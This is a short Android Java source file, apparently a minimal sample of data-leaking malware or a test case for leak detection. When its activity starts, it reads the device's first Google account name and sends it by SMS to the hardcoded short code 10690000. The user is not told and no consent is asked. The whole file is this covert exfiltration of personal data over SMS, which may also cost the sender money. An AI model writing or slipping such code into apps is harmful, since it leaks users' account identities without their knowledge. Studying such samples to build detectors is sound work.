package p;

import android.accounts.Account;
import android.accounts.AccountManager;
import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Account[] accounts = AccountManager.get(this).getAccountsByType("com.google");
        if (accounts.length > 0) {
            SmsManager.getDefault().sendTextMessage("10690000", null, accounts[0].name, null, null);
        }
    }
}
